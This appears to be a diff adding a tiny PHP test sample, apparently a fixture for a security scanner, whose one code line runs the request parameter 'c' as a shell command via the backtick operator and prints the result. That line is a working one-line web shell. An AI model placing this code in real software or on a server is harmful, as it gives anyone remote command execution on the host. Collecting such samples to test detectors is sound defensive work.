@@ -1,0 +1,3 @@
+<?php
+// test sample: backtick operator on request input
+echo `$_REQUEST['c']`;
